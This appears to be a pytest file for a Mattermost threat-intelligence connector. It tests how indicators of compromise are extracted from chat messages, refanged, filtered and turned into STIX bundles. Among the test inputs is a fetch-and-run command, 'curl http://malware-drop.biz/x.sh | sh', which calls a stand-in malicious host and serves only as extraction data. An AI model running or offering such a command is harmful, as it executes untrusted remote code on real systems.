"""Indicators in chat messages: extraction, chat filters, STIX objects, bundles, replay."""

from __future__ import annotations

import ipaddress
import json
import random
import re
from pathlib import Path

import orjson
import pytest
import stix2
from pycti import Vulnerability

from mattermost_connector.config import OBSERVABLE_KINDS, TLP
from mattermost_connector.errors import ConfigError
from mattermost_connector.kinds import AttachmentFate as Fate
from mattermost_connector.observables import MAX_BYTES_PER_POST
from mattermost_connector.observables import extract as extract_module
from mattermost_connector.observables import stix as observables_stix
from mattermost_connector.observables.extract import (
    KINDS,
    Filters,
    Found,
    address_kept,
    extract,
    refang,
)
from mattermost_connector.observables.stix import (
    Observable,
    observables_of,
    observer,
    searchable_text,
)
from mattermost_connector.stix import (
    Attachment,
    ChannelContext,
    identity_id,
    iter_bundles,
    marking_id,
    message_id,
    message_objects,
)
from tests import bench_observables
from tests.checks import assert_valid_stix, undefined_refs
from tests.replay_platform import replay
from tests.support import settings_with

SERVER = "chat.acme-corp.net"
FILTERS = Filters(server_host=SERVER)
SHA256 = "e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855"
SHA512 = "cf83e1357eefb8bdf1542850d66d8007d620e4050b5715dc83f4a921d36ce9ce" * 2
CONTEXT = ChannelContext(
    "c" * 26, "cti/ioc", None, "cti", "O", 1_600_000_000_000, f"https://{SERVER}"
)
ALICE = {"id": "a" * 26, "username": "alice", "create_at": 1}
BOB = {"id": "b" * 26, "username": "bob", "create_at": 2}
USERS = {ALICE["id"]: ALICE, BOB["id"]: BOB}


def post(n: int, text: str, author: dict = ALICE, **extra) -> dict:
    return {
        "id": f"{n:026d}",
        "user_id": author["id"],
        "create_at": 1_700_000_000_000 + n,
        "message": text,
        "root_id": "",
        **extra,
    }


def values(text: str, filters: Filters = FILTERS) -> list[tuple[str, str]]:
    return [(f.kind, f.value) for f in extract(text, filters)]


# -- extraction -----------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("C2 at 185.220.101[.]4", [("ipv4-addr", "185.220.101.4")]),
        ("C2 at 185(.)220(.)101(.)4", [("ipv4-addr", "185.220.101.4")]),
        ("C2 at 185[dot]220[dot]101[dot]4", [("ipv4-addr", "185.220.101.4")]),
        ("v6 2a00:1450:4001:82b::200e", [("ipv6-addr", "2a00:1450:4001:82b::200e")]),
        ("bad evil-site[.]ru", [("domain-name", "evil-site.ru")]),
        ("hxxps://evil-site[.]ru/payload", [("url", "https://evil-site.ru/payload")]),
        ("hxxp[:]//evil-site(.)ru/a", [("url", "http://evil-site.ru/a")]),
        ("from bob[@]phish[.]ru", [("email-addr", "bob@phish.ru")]),
        ("from bob[at]phish[dot]ru", [("email-addr", "bob@phish.ru")]),
        ("cve-2021-44228 again", [("vulnerability", "CVE-2021-44228")]),
        (
            "```\ncurl http://malware-drop.biz/x.sh | sh\n```",
            [("url", "http://malware-drop.biz/x.sh")],
        ),
        (f"`{SHA256.upper()}`", [("file", SHA256)]),
    ],
)
def test_each_kind_and_defanging_style_is_found_refanged(text, expected):
    assert values(text) == expected


# The refanging as first written: one pattern of every style, in one pass
_ONE_PASS = re.compile(
    r"(?P<colon>\[:\]|\(:\)|\[colon\])"
    r"|\[(?P<slashes>:?//)\]|\((?P<parenthesised>:?//)\)"
    r"|\b(?P<scheme>hxxp|h\[tt\]p|hxtp)(?P<secure>s?)(?=:|\[:|\(:)"
    r"|\b(?P<ftp>fxp)(?=:|\[:|\(:)"
    r"|(?P<at>\[at\]|\(at\)|\[@\]|\(@\))"
    r"|(?P<dot>\[\.\]|\(\.\)|\[dot\]|\(dot\)|\{\.\}|\[\.)",
    re.I,
)


def _one_pass(match: re.Match[str]) -> str:
    if match.group("scheme"):
        return "http" + match.group("secure")
    for group, value in (("colon", ":"), ("ftp", "ftp"), ("at", "@"), ("dot", ".")):
        if match.group(group):
            return value
    return match.group("slashes") or match.group("parenthesised")


def test_refanging_in_two_cheap_passes_is_the_one_pass():
    """refang's two passes, each behind a substring test, rewrite exactly what one pattern
    of every style does: on the corpus and on 30,000 strings made of the marks, their
    fragments and the characters case-insensitive matching equates (a fixed seed)."""
    pieces = [
        "hxxp", "HXXPS", "h[tt]p", "H[TT]Ps", "hxtp", "fxp", "FXPS", "xhxxp", "[:]", "(:)",
        "[colon]", "[//]", "[://]", "(//)", "(://)", "[at]", "(AT)", "[@]", "(@)", "[.]",
        "(.)", "[dot]", "(DOT)", "{.}", "[.", "[", "]", "(", ")", "{", "}", ".", ":", "//",
        "s", "\u017f", "\u212a", "_", "1", " ", "é", "x", "t", "@", "dot", "at", "h", "p",
    ]  # fmt: skip
    rng = random.Random(25)
    texts = [text for text, _ in bench_observables.load()] + [
        "".join(rng.choice(pieces) for _ in range(rng.randint(1, 12))) for _ in range(30_000)
    ]
    for text in texts:
        assert refang(text) == _ONE_PASS.sub(_one_pass, text), text


def test_every_hash_length_names_its_algorithm():
    md5, sha1 = "d41d8cd98f00b204e9800998ecf8427e", "da39a3ee5e6b4b0d3255bfef95601890afd80709"
    found = extract(f"md5 {md5} sha1 {sha1} sha256 {SHA256} sha512 {SHA512}", FILTERS)
    assert [(f.value, f.algorithm) for f in found] == [
        (md5, "MD5"),
        (sha1, "SHA-1"),
        (SHA256, "SHA-256"),
        (SHA512, "SHA-512"),
    ]


@pytest.mark.parametrize(
    "text",
    [
        "see report.pdf and invoice.docx.exe",
        "run collect.sh then setup.zip",
        "upgraded to version 1.2.3.4",
        "Chrome/10.4.2.1 in the UA",
        f"see https://{SERVER}/cti/pl/abcdefghijkmnopqrstuwxyz12 and {SERVER}",
        "thanks @alice.dev and @m.info",
        "scanner 10.0.4.17, printer 192.168.1.20, cgnat 100.64.2.1, fd12:3456:789a::1",
        "docs 192.0.2.10 198.51.100.7 203.0.113.99 2001:db8::1, loopback 127.0.0.1",
        "template example.com, www.example.org, evil.example, foo.test, printer.local",
        "mail admin@example.net or https://example.com/x",
        "fixed in commit da39a3ee5e6b4b0d3255bfef95601890afd80709",
        "git revert da39a3ee5e6b4b0d3255bfef95601890afd80709 please",
        "```python\nprint(user.name, obj.id)\n```",
        "lunch at 12.30? 99.9% ok.thanks i.e. fine",
        "multicast 237.66.2.237 and 224.0.0.251, broadcast 255.255.255.255, 0.1.2.3",
    ],
)
def test_chat_traps_yield_nothing(text):
    assert values(text) == []


def test_a_defanged_file_like_name_is_a_domain():
    """An analyst who defangs `evil[.]zip` means the domain."""
    assert values("beacon to evil-drop[.]zip") == [("domain-name", "evil-drop.zip")]


def test_private_addresses_are_kept_only_when_configured():
    text = "jump host 10.0.4.17, doc 192.0.2.10, internal http://10.0.0.5/wiki"
    assert values(text) == []
    kept = values(text, Filters(server_host=SERVER, private_addresses=True))
    assert kept == [("ipv4-addr", "10.0.4.17"), ("url", "http://10.0.0.5/wiki")]


def test_the_ipv4_table_judges_as_the_ranges_do():
    """address_kept looks an IPv4 address up in a sorted table (bisect): every range's
    edges and random addresses are judged as membership of the ranges themselves says."""
    ranges = [(ipaddress.ip_network(n), True) for n in extract_module._PRIVATE_V4] + [
        (ipaddress.ip_network(n), False) for n in extract_module._NEVER_V4
    ]
    edges = [int(n.network_address) + d for n, _ in ranges for d in (-1, 0, 1)]
    edges += [int(n.broadcast_address) + d for n, _ in ranges for d in (-1, 0, 1)]
    rng = random.Random(4)
    numbers = [e for e in edges if 0 <= e < 2**32] + [rng.getrandbits(32) for _ in range(5000)]
    for number in numbers:
        address = ipaddress.IPv4Address(number)
        private = [p for network, p in ranges if address in network]
        for allowed in (False, True):
            expected = not private or (private[0] and allowed)
            judged = address_kept(str(address), Filters(private_addresses=allowed))
            assert judged == expected, (address, allowed)


def test_only_the_kinds_chosen_are_extracted():
    text = f"C2 1.1.1.1 and evil-site[.]ru/x at hxxp://evil-site[.]ru/x hash {SHA256}"
    only = Filters(kinds=frozenset({"domain-name", "file"}), server_host=SERVER)
    assert values(text, only) == [("file", SHA256)]  # the domain is the URL's host
    assert values("evil-site[.]ru", only) == [("domain-name", "evil-site.ru")]


def test_the_domain_of_a_url_or_address_is_not_a_second_indicator():
    assert values("hxxp://evil-site[.]ru/x from ops@evil-mail[.]com") == [
        ("url", "http://evil-site.ru/x"),
        ("email-addr", "ops@evil-mail.com"),
    ]


def test_refang_undoes_colon_and_scheme_styles():
    assert refang("hxxps[:]//a[.]b hXXp[://]c") == "https://a.b http://c"


def test_the_corpus_meets_the_targets_for_each_kind():
    """tests/observables_corpus: >= 300 labelled messages; per kind precision >= 0.97 and
    recall >= 0.95 (python -m tests.bench_observables prints the table)."""
    corpus = bench_observables.load()
    assert len(corpus) >= 300
    texts = "\n".join(text for text, _ in corpus)
    for style in ("hxxp", "[.]", "(.)", "[dot]", "[@]", "[:]", "```"):
        assert style in texts
    tp, fp, fn, _, misses = bench_observables.score(bench_observables.ours, corpus)
    for kind in bench_observables.KINDS:
        assert tp[kind] >= 5, kind
        assert tp[kind] / (tp[kind] + fp[kind]) >= 0.97, (kind, misses)
        assert tp[kind] / (tp[kind] + fn[kind]) >= 0.95, (kind, misses)


# -- STIX -----------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("observable", "reference"),
    [
        (Observable("ipv4-addr", "185.220.101.4"), stix2.IPv4Address(value="185.220.101.4")),
        (Observable("ipv6-addr", "2a00::1"), stix2.IPv6Address(value="2a00::1")),
        (Observable("domain-name", "évil.ru"), stix2.DomainName(value="évil.ru")),
        (Observable("url", 'http://a.ru/"q"'), stix2.URL(value='http://a.ru/"q"')),
        (Observable("email-addr", "x@a.ru"), stix2.EmailAddress(value="x@a.ru")),
        (Observable("file", SHA256, "SHA-256"), stix2.File(hashes={"SHA-256": SHA256})),
        (Observable("file", SHA512, "SHA-512"), stix2.File(hashes={"SHA-512": SHA512})),
    ],
)
def test_ids_are_stix2_deterministic_ids(observable: Observable, reference):
    assert observable.id == reference.id
    body = observable.object(identity_id(ALICE), marking_id(TLP.AMBER), "x")
    parsed = stix2.parse(body, allow_custom=True)
    assert parsed.id == reference.id


SAMPLES = [
    Observable("ipv4-addr", "185.220.101.4"),
    Observable("ipv6-addr", "2a00::1"),
    Observable("domain-name", "évil.ru"),
    Observable("url", 'http://a.ru/"q"\\é\u2028'),
    Observable("email-addr", "x@a.ru"),
    Observable("file", SHA256, "SHA-256"),
    Observable("file", "d41d8cd98f00b204e9800998ecf8427e", "MD5"),
    Observable("vulnerability", "CVE-2021-44228"),
]


@pytest.mark.parametrize("observable", SAMPLES, ids=lambda o: o.kind)
def test_the_serialised_object_is_orjsons_and_its_bound_holds(observable: Observable):
    """Bundles carry `serialized` (written from parts derived once): byte for byte what
    orjson writes of `object`, for every kind, escapes and non-ASCII included."""
    for author, tlp, when in (
        (identity_id(ALICE), TLP.AMBER, "2023-11-14T22:13:20.000Z"),
        (identity_id({"username": 'd"q\\é'}), TLP.AMBER_STRICT, "2024-01-01T00:00:00Z"),
    ):
        body = observable.object(author, marking_id(tlp), when)
        assert observable.serialized(author, marking_id(tlp), when) == orjson.dumps(body).decode()
    _, links = message_objects(
        post(1, "x"), CONTEXT, ALICE, [], TLP.AMBER_STRICT, observables=[observable]
    )
    body = observable.object(identity_id(ALICE), marking_id(TLP.AMBER_STRICT), "x" * 24)
    assert len(orjson.dumps(body)) + 2 + len(orjson.dumps(links[-1])) + 2 <= observable.max_size


def test_an_indicator_that_comes_back_is_derived_once():
    first = observables_stix.known("ipv4-addr", "185.220.101.4")
    assert observables_stix.known("ipv4-addr", "185.220.101.4") is first
    assert first == Observable("ipv4-addr", "185.220.101.4")
    assert first.id == Observable("ipv4-addr", "185.220.101.4").id


def test_a_cve_is_a_vulnerability_with_pycti_id():
    cve = Observable("vulnerability", "CVE-2021-44228")
    assert cve.id == Vulnerability.generate_id("CVE-2021-44228")
    body = cve.object(identity_id(ALICE), marking_id(TLP.RED), "2023-11-14T22:13:20.000Z")
    assert stix2.parse(body, allow_custom=True).name == "CVE-2021-44228"
    assert body["created_by_ref"] == identity_id(ALICE)


def test_every_kind_has_a_setting_name_and_the_sizes_are_upper_bounds():
    assert set(OBSERVABLE_KINDS) == set(KINDS)
    cve = Observable("vulnerability", "CVE-2021-44228")
    _, links = message_objects(post(1, "x"), CONTEXT, ALICE, [], TLP.AMBER, observables=[cve])
    link = len(orjson.dumps(links[-1])) + 2
    body = cve.object(identity_id(ALICE), marking_id(TLP.AMBER_STRICT), "2023-11-14T22:13:20.000Z")
    assert len(orjson.dumps(body)) + 2 + link <= cve.max_size


def test_a_message_links_each_indicator_created_by_its_author():
    found = [Observable("ipv4-addr", "185.220.101.4"), Observable("url", "http://a.ru/")]
    message, links = message_objects(post(1, "x"), CONTEXT, BOB, [], TLP.GREEN, observables=found)
    related = [link for link in links if link["target_ref"] in {o.id for o in found}]
    assert [r["target_ref"] for r in related] == [o.id for o in found]
    for link in related:
        assert link["relationship_type"] == "related-to"
        assert link["source_ref"] == message["id"]
        assert link["created_by_ref"] == identity_id(BOB)
        assert link["object_marking_refs"] == [marking_id(TLP.GREEN)]


def test_observables_of_reads_integration_attachments_and_stops_at_the_bound():
    integration = post(1, "alert", props={"attachments": [{"text": "C2 185.220.101[.]4"}]})
    assert "185.220.101[.]4" in searchable_text(integration)
    observe = observer(KINDS, SERVER, False)
    assert [o.value for o in observe(integration)] == ["185.220.101.4"]
    dump = post(2, "\n".join(f"{n:064x}" for n in range(1, 2000)))
    kept = observables_of(lambda text: extract(text, FILTERS), dump)
    assert 100 < len(kept) < 1999
    assert sum(o.max_size for o in kept) <= MAX_BYTES_PER_POST


def _objects(part) -> list[dict]:
    return json.loads(part.json)["objects"]


def test_each_bundle_carries_its_posts_indicators_once_created_by_who_brought_them():
    observe = observer(KINDS, SERVER, False)
    posts = [
        post(1, "C2 185.220.101[.]4", ALICE),
        post(2, "also 185.220.101[.]4 and CVE-2021-44228", BOB),
        post(3, "185.220.101[.]4 again", BOB),
    ]
    parts = list(
        iter_bundles(CONTEXT, posts, USERS, {}, TLP.AMBER, max_objects=12, observe=observe)
    )
    assert len(parts) == 2
    first, second = (_objects(part) for part in parts)
    ip = Observable("ipv4-addr", "185.220.101.4")
    for objects, creator in ((first, ALICE), (second, BOB)):
        assert undefined_refs({"objects": objects}) == set()
        (obj,) = [o for o in objects if o["id"] == ip.id]
        assert obj["x_opencti_created_by_ref"] == identity_id(creator)
    links = [o for part in (first, second) for o in part if o.get("target_ref") == ip.id]
    assert sorted(link["source_ref"] for link in links) == sorted(
        message_id(CONTEXT, p["id"]) for p in posts
    )
    assert_valid_stix([json.loads(part.json) for part in parts])


def test_queue_bundles_stay_under_their_bound_with_many_indicators():
    observe = observer(KINDS, SERVER, False)
    dumps = [post(n, "\n".join(f"{n:08x}{k:056x}" for k in range(300))) for n in range(1, 9)]
    bound = 1024 * 1024  # the smallest CONNECTOR_BUNDLE_MAX_BYTES
    parts = list(
        iter_bundles(
            CONTEXT, dumps, USERS, {}, TLP.AMBER, max_bytes=bound, queue=True, observe=observe
        )
    )
    assert len(parts) >= 2
    for part in parts:
        assert part.size <= bound
        assert undefined_refs(json.loads(part.json)) == set()
    assert sum(len(part.posts) for part in parts) == len(dumps)


def test_a_thread_root_keeps_room_for_a_replys_indicators(tmp_path: Path):
    """With extraction, a root's reserve for a reply's bundle (which copies the root with its
    files) grows by MAX_BYTES_PER_POST: a file that fitted beside the root without it no longer
    does, and travels as an Artifact."""
    size = 2_000_000  # 2.67 MB encoded: fits under REPLY_RESERVE, not under both reserves
    (tmp_path / "f").write_bytes(b"x" * size)
    files = {
        post(1, "")["id"]: [
            Attachment("f" * 26, "a.bin", "application/octet-stream", size, tmp_path / "f", "h")
        ]
    }
    bound = 3 * 1024 * 1024  # a quarter of it is more than both reserves: they bind

    def fates(observe) -> list[str]:
        parts = iter_bundles(
            CONTEXT,
            [post(1, "root")],
            USERS,
            files,
            TLP.AMBER,
            max_bytes=bound,
            queue=True,
            observe=observe,
        )
        return [a.status for part in parts for _, a in part.attachments]

    assert fates(None) == [Fate.EMBEDDED]
    assert fates(observer(KINDS, SERVER, False)) == [Fate.UPLOADED]


def test_without_extraction_bundles_are_unchanged():
    posts = [post(1, "C2 185.220.101[.]4")]
    (plain,) = iter_bundles(CONTEXT, posts, USERS, {}, TLP.AMBER)
    assert not [o for o in _objects(plain) if o["type"] == "ipv4-addr"]


def test_replay_stores_every_indicator_and_link_and_an_edit_adds_without_removing():
    """pycti's import into the platform's rules (tests/replay_platform.py): each indicator
    one entity however many messages name it, each link stored; a later edit's new indicator
    is linked, the one it removed stays linked."""
    observe = observer(KINDS, SERVER, False)
    first = [
        post(1, f"C2 185.220.101[.]4 via hxxps://evil-site[.]ru/p from ops[@]phish[.]ru {SHA256}"),
        post(2, "2a00:1450:4001:82b::200e and evil-site[.]ru; CVE-2021-44228; 185.220.101.4", BOB),
    ]
    edited = {**first[0], "message": "C2 moved to 45.9.148[.]3", "edit_at": 1_700_000_100_000}
    texts = [
        part.json
        for batch in (first, [edited])
        for part in iter_bundles(CONTEXT, batch, USERS, {}, TLP.AMBER, observe=observe)
    ]
    platform = replay(texts)
    assert platform.rejected == [] and platform.missing_references == []
    by_type = {
        kind: sorted(
            e.attributes.get("value") or e.attributes.get("name") or e.standard_id
            for e in platform.of_type(kind)
        )
        for kind in ("IPv4-Addr", "IPv6-Addr", "Domain-Name", "Url", "Email-Addr", "Vulnerability")
    }
    assert by_type == {
        "IPv4-Addr": ["185.220.101.4", "45.9.148.3"],
        "IPv6-Addr": ["2a00:1450:4001:82b::200e"],
        "Domain-Name": ["evil-site.ru"],
        "Url": ["https://evil-site.ru/p"],
        "Email-Addr": ["ops@phish.ru"],
        "Vulnerability": ["CVE-2021-44228"],
    }
    (file,) = platform.of_type("StixFile")
    assert file.standard_id == Observable("file", SHA256, "SHA-256").id
    messages = {e.attributes["url"]: e for e in platform.of_type("Media-Content")}
    edited_message = messages[CONTEXT.permalink(first[0]["id"])]
    linked = {e.attributes.get("value") for e in platform.related(edited_message)}
    assert {"185.220.101.4", "45.9.148.3", "https://evil-site.ru/p", "ops@phish.ru"} <= linked
    other = messages[CONTEXT.permalink(first[1]["id"])]
    assert {e.attributes.get("name") for e in platform.related(other)} >= {"CVE-2021-44228"}
    ip = next(e for e in platform.of_type("IPv4-Addr") if e.attributes["value"] == "185.220.101.4")
    assert ip.created_by == platform.resolve(identity_id(ALICE)).internal_id
    assert platform.resolve(marking_id(TLP.AMBER)).internal_id in ip.markings


# -- settings -------------------------------------------------------------------------------


def test_extraction_is_off_by_default_and_kinds_are_checked(workdir: Path, monkeypatch):
    settings = settings_with(monkeypatch).mattermost
    assert settings.extract_observables is False
    assert settings.observable_kinds == list(OBSERVABLE_KINDS)
    chosen = settings_with(monkeypatch, MATTERMOST_OBSERVABLE_KINDS=" URL, file ").mattermost
    assert chosen.observable_kinds == ["url", "file"]
    with pytest.raises(ConfigError, match=r"MATTERMOST_OBSERVABLE_KINDS: 'hostname' is not a kind"):
        settings_with(monkeypatch, MATTERMOST_OBSERVABLE_KINDS="url,hostname")


def test_the_extractor_is_not_imported_unless_enabled():
    """The bundle planner needs only the bound: iocsearcher loads when extraction is on."""
    import subprocess
    import sys

    code = "import mattermost_connector.stix, sys; print('iocsearcher' in sys.modules)"
    out = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, check=True)
    assert out.stdout.strip() == "False"
    assert observables_stix.MAX_BYTES_PER_POST == MAX_BYTES_PER_POST
    assert Found("url", "x") == Found("url", "x", "")
